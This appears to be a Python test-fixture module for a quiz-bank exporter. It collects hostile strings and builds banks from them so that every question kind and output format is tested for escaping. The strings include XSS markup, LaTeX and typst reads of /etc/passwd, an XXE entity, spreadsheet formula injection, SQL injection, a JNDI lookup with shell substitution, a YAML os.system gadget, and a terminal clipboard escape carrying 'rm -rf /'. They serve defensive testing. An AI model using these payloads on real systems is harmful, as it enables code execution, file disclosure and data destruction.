"""Every text that means something to a program it passes through, and banks that say it wherever an author may write.

One corpus for all tests: a text that hurt once is added here, and goes through every kind, every way out and every
screen from then on. `tests/contract/test_hostile.py` is where it does.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import replace
from decimal import Decimal
from typing import NamedTuple

from quiz.core.bank import Bank, Deck
from quiz.core.dates import PartialDate
from quiz.core.fact import Article, ArticleId, Dispute, Fact, FactId, Names
from quiz.core.problem import Place
from quiz.core.question import Card, CardId, DeckId, Question, QuestionId
from quiz.core.shape import (
    Arrange,
    Date,
    Fill,
    Number,
    Option,
    Pair,
    Pick,
    Remark,
    Reveal,
    Shape,
    Text,
)


class Hostile(NamedTuple):
    """A text, and what would read more than a text in it."""

    text: str
    why: str


MARKUP: Mapping[str, Hostile] = {
    # pages
    "script": Hostile("<script>window.hacked=1</script>", "a browser runs it"),
    "attribute": Hostile('"><img src=x onerror=window.hacked=1>', "it ends an attribute"),
    "handler": Hostile("' onmouseover='window.hacked=1", "it ends one in single quotes"),
    "svg": Hostile(
        "<svg/onload=window.hacked=1><a href='javascript:window.hacked=1'>x</a>", "runs"
    ),
    "end-of-page": Hostile("<!-- a --> <style>*{display:none}</style> </main></div>", "hides all"),
    "end-of-data": Hostile("</script></style></title></textarea><!--<script>", "ends raw text"),
    "entities": Hostile("&lt;b&gt; &amp;amp; &#60; &nbsp; &x;", "is decoded once too often"),
    "template": Hostile("${window.hacked=1} `x` <%= 1 %> {% 1 %}", "templates of pages fill it"),
    # mathematics and paper
    "mathjax": Hostile(r"\(x\) \[y\] $$z$$ \n \ ", "MathJax sets it"),
    "latex": Hostile(r"\input{/etc/passwd} \write18{id} \end{document} %%% $x^2$ ~^_&#", "LaTeX"),
    "latex-signs": Hostile("100 % & 3 $ #1 a_b {x} ^2 C:\\tex~1", "every sign means something"),
    "typst": Hostile('#read("/etc/passwd") #import "a.typ" #panic()', "typst reads the file"),
    "typst-markup": Hostile(
        '*gras* _biais_ $x^2$ @renvoi <nom> "a" `b` // fin /* fin */ = t + u - v ~ --- \\u{41} [x] {y}',
        "typst, and markdown, set it",
    ),
    "pdf": Hostile("%PDF-1.7 (\\) endstream endobj <</JS (x)>>", "it ends a string of a PDF"),
    # cards
    "anki-fields": Hostile("{{Question}} }} {{ {{FrontSide}} {{#x}}", "Anki fills it"),
    "anki-cloze": Hostile("{{c1::a::b}}", "Anki makes a blank"),
    "anki-parts": Hostile("a::b:::c", "it parts decks, tags and a cloze's hint"),
    "anki-media": Hostile(
        "[[type:Question]] [sound:a.mp3] [latex]x[/latex] [$]y[/$]", "Anki plays"
    ),
    # other programs' questions
    "gift": Hostile("~=# {T} -> :: #### {=a ~b} %50% [html]x", "GIFT's signs"),
    "gift-lines": Hostile("// x [id:autre]", "a comment of GIFT"),
    "gift-category": Hostile("$CATEGORY: x/y//z", "a category of GIFT"),
    "moodle-cloze": Hostile(r"{1:MC:=a~b#c} {1:SHORTANSWER:=x} {#1} a\}b\#c~d}e#f", "a blank"),
    "moodle-file": Hostile("@@PLUGINFILE@@/x.png {mlang fr} [[page]] [tex]x[/tex]", "its filters"),
    "cdata": Hostile(
        "]]> <![CDATA[ <?php ?> <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]> &y;", "XML"
    ),
    "amc": Hostile(
        "[verbatim]x[/verbatim] [[\\input{/etc/passwd}]] [*gras*] [==titre==] !image!", "AMC"
    ),
    "amc-lines": Hostile("+ plus, - moins, * astérisque, # dièse", "what begins a line of AMC"),
    "amc-options": Hostile("{b=1} [ordered] <lines=3> sept", "AMC's options"),
    "amc-typography": Hostile("<< deux >> ''trois'' ``quatre`` -- --- \"cinq\" ]] [[", "ligatures"),
    # tables
    "formula": Hostile("=cmd|' /C calc'!A0", "a spreadsheet starts a program"),
    "formula-plus": Hostile('+HYPERLINK("http://x.invalid","y")', "a spreadsheet makes a link"),
    "formula-minus": Hostile("-1+1;2,3", "a spreadsheet works it out"),
    "formula-at": Hostile("@SUM(1+1)*2", "a spreadsheet works it out"),
    "cells": Hostile('a;b,c"d""e|f', "it parts cells"),
    # terminals and programs
    "textual": Hostile("[red]rouge[/red] [@click=app.quit]ici[/] [b", "Textual colours it"),
    "textual-variable": Hostile("[x=1, v={'a[0]'}] [[]] [/red] \\[a]", "Textual's parser fails"),
    "braces": Hostile("{0.__class__.__init__.__globals__} {} {n} {{ }}", "str.format fills it"),
    "percent": Hostile("%s %(x)s %n %99999999d", "formatting with % fills it"),
    "lookup": Hostile("${jndi:ldap://x.invalid/a} $(id) `id` $HOME ; id | id & id", "a shell"),
    "sql": Hostile("'; DROP TABLE event; --", "SQL"),
    "path": Hostile("../../etc/passwd C:\\x \\\\x\\y con nul.txt", "a path elsewhere"),
    "yaml": Hostile("!!python/object/apply:os.system [id] &a *a <<: {}", "YAML makes an object"),
}
"""What stands on a page as it is, character for character, and is obeyed by none."""

LETTERS: Mapping[str, Hostile] = {
    "family": Hostile(
        "👩\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "wide"
    ),
    "apart": Hostile("e\u0301te\u0301", "accents that stand apart"),
    "marks": Hostile("a" + "\u0301\u0316" * 12 + "b", "marks that grow out of the line"),
    "mark-alone": Hostile("\u0301 seul", "a mark without a letter"),
    "homoglyph": Hostile("раура1 ехаmple", "Cyrillic that looks Latin"),
    "wide": Hostile("漢字かな混じり文の問題です", "two cells a letter"),
    "right-to-left": Hostile("שלום مرحبا", "scripts that run the other way"),
    "typography": Hostile("« Oui\u202f! » – l’œuvre… 50\u00a0% → “ok” ‘non’ Łódź Αθήνα", "French"),
}
"""Letters that are text and nothing else, and that are easily broken."""

ESCAPES: Mapping[str, Hostile] = {
    "colour": Hostile(
        "\x1b[31m\x1b[2J\x1b[999D\x1b[1Aécran", "wipes the screen and writes over it"
    ),
    "title": Hostile("\x1b]0;owned\x07 \x1b]2;owned\x1b\\", "sets the terminal's title"),
    "link": Hostile("\x1b]8;;http://x.invalid\x1b\\ici\x1b]8;;\x1b\\", "makes a link (OSC 8)"),
    "clipboard": Hostile("\x1b]52;c;cm0gLXJmIC8=\x07", "fills the clipboard (OSC 52)"),
    "device": Hostile('\x1bP$q"p\x1b\\ \x1b[6n\x1b[c\x1bc', "makes the terminal type an answer"),
    "single-csi": Hostile("\x9b31m\x9b2J", "a control sequence of one character (C1)"),
    "single-osc": Hostile("\x9d0;owned\x9c \x90q\x9c", "commands of one character (C1)"),
    "back": Hostile("faux\b\b\b\bvrai\r\x7f\x0e\x07", "writes over what was there, rings, shifts"),
    "null": Hostile("nul\x00 fin", "ends a text of C"),
    "separators": Hostile("a\x1cb\x1dc\x1ed\x1fe", "parts fields, of Anki's too"),
}
"""What a terminal obeys, and no file of ours may hold as a single character."""

HIDDEN: Mapping[str, Hostile] = {
    "override": Hostile("gauche\u202eetiord\u202c", "turns the rest of the line around"),
    "isolates": Hostile(
        "\u2067a\u2066b\u2068c\u2069 \u061c\u200e\u200f\u202a\u202b\u202dd", "marks"
    ),
    "zero-width": Hostile("Os\u200blo\u2060 \ufeff\u00ad fin\u180e", "letters that nobody sees"),
    "tags": Hostile("a\U000e0001\U000e0068\U000e0069b", "a text that nobody sees"),
    "deprecated": Hostile("a\u206a\u206fb \ufff9c\ufffad\ufffb", "marks out of use"),
    "private": Hostile("a\ue000\uf8ff\U000f0000\U0010fffdb", "no known width"),
    "nothing": Hostile("a\ufffe\uffff\ufdd0\U0001ffffb", "no characters"),
}
"""What changes or hides a text without being seen."""

LINES: Mapping[str, Hostile] = {
    "lines": Hostile("une\ndeux\n\ntrois", "a line, and an empty one"),
    "all-lines": Hostile("a\r\nb\rc\vd\fe\x85f\u2028g\u2029h", "every sort of end of a line"),
    "tabs": Hostile("\ta\tb", "it parts cells"),
    "return-formula": Hostile("\r=1+1", "a formula behind a return"),
    "tab-formula": Hostile("\t=1+1", "a formula behind a tab"),
    "spaces": Hostile(" \u00a0\u2003 a  b\u3000 ", "spaces of every width"),
}
"""Ends of lines, and cells."""

HALVES: Mapping[str, Hostile] = {
    "halves": Hostile("a\ud800b\udc80c", "halves of pairs: JSON and file names make them"),
}
"""What no encoding of text takes."""

LONG: Mapping[str, Hostile] = {
    "long-word": Hostile("Donaudampfschifffahrtselektrizitätenhauptbetriebswerk" * 4, "no break"),
    "long-glued": Hostile("a\u00a0" * 120, "no break between words either"),
    "long-hyphens": Hostile("re-" * 120 + "re", "breaks everywhere"),
    "long-prompt": Hostile("une phrase qui ne finit pas, " * 138, "4,000 characters"),
}
HUGE = Hostile("x" * 100_000, "a word of 100,000 characters")

SHORT: Mapping[str, Hostile] = {**MARKUP, **LETTERS, **ESCAPES, **HIDDEN, **LINES, **HALVES}
EVERY: Mapping[str, Hostile] = {**SHORT, **LONG, "huge": HUGE}


def texts(*groups: Mapping[str, Hostile]) -> tuple[str, ...]:
    """The texts of these groups."""
    return tuple(hostile.text for group in groups for hostile in group.values())


# --- banks

TEN = Decimal(10)
NINETY = PartialDate.parse("1990")
DECK, ARTICLE = DeckId("essai"), ArticleId("001")


def shapes_of(text: str) -> dict[str, tuple[Shape, ...]]:
    """What is asked by each kind, a shape a card, the text alone wherever an author may write.

    What must differ from it begins with a figure, so that texts that mean something at their beginning still do.
    """
    two, three = f"2 {text}", f"3 {text}"
    almost, wrong = (Remark(f"presque {text}", text),), (Remark(f"non {text}", text),)
    words = Text(text, (two,), almost, wrong, text)
    options = (Option(text, correct=True), Option(two, correct=False, why=text))
    return {
        "choice": (Pick((*options, Option("autre", correct=False, why=text))),),
        "multiple": (Pick((*options, Option(three, correct=True)), many=True),),
        "true_false": (Pick(options, fixed=True, fix=(text, three)),),
        "short": (Fill((words,)),),
        "number": (Fill((Number(text, TEN, Decimal(1), text, almost, wrong, text),)),),
        "date": (Fill((Date("1990", NINETY, almost, wrong, text),)),),
        "cloze": (Fill((words,), (f"avant {text} ", f" {text}")),),
        "order": (Arrange((text, two, three), (text, "", text)),),
        "match": (Pair(((text, text), (two, two)), (three,)),),
        "card": (Reveal(text), Reveal(text)),
        "open": (Reveal(text, (text, two), text),),
    }


def question_of(kind: str, text: str, name: str = "q") -> Question:
    """A question of a kind that says the text wherever an author may write; `name` is its id."""
    shapes = shapes_of(text)[kind]
    ends = {"cloze": ("/c1",), "card": ("", "/reverse")}.get(kind, ("",))
    cards = tuple(
        Card(
            CardId(f"{name}{end}"),
            f"avant {text} [{text}] {text}" if kind == "cloze" else text,
            shape,
        )
        for end, shape in zip(ends, shapes, strict=True)
    )
    return Question(
        QuestionId(name),
        kind,
        DECK,
        f"avant {text} {text} {text}" if kind == "cloze" else text,
        cards,
        text,
        name,
        Place("decks/essai.yaml", 1, 1),
        level=2,
        bloom="remember",
        themes=(text, "à part"),
        hint=text,
        source=text,
        as_of=NINETY,
        allow=(("Q01", text),),
    )


def bank_of(named: Mapping[str, Hostile], *, kinds: Iterable[str] = ()) -> Bank:
    """A question of each kind for each text (`choice-script`), each with a fact, an article and a dispute that say it.

    The bank's title and its deck's are the first text.
    """
    first = next(iter(named.values())).text
    wanted = tuple(kinds) or tuple(shapes_of(""))
    questions = tuple(
        replace(question_of(kind, hostile.text, f"{kind}-{name}"), facts=(FactId(f"fait-{name}"),))
        for name, hostile in named.items()
        for kind in wanted
    )
    articles = tuple(
        _article(f"{number:03}", name, hostile.text)
        for number, (name, hostile) in enumerate(named.items(), 1)
    )
    disputes = tuple(
        Dispute(
            f"litige-{name}",
            "conflict",
            text,
            ((FactId(f"fait-{name}"), text), (FactId(f"autre-{name}"), text)),
            text,
            text,
        )
        for name, (text, _) in named.items()
    )
    everybody = tuple((text, (f"2 {text}",)) for text, _ in named.values())
    return Bank(
        first,
        "fr",
        (Deck(DECK, first, questions),),
        first,
        articles,
        disputes,
        Names(everybody, everybody[:1], texts(named), ()),
        theme_names=tuple((text, text) for text, _ in named.values()),
    )


def _article(number: str, name: str, text: str) -> Article:
    article = ArticleId(number)
    facts = tuple(
        Fact(
            FactId(f"{which}-{name}"),
            article,
            paragraph,
            text,
            Place("seeds/essai.yaml"),
            3,
            NINETY,
            text,
            "claim",
            (text,),
            NINETY,
        )
        for paragraph, which in enumerate(("fait", "autre"), 1)
    )
    return Article(article, text, text, NINETY, "fr", facts, text, text, text)
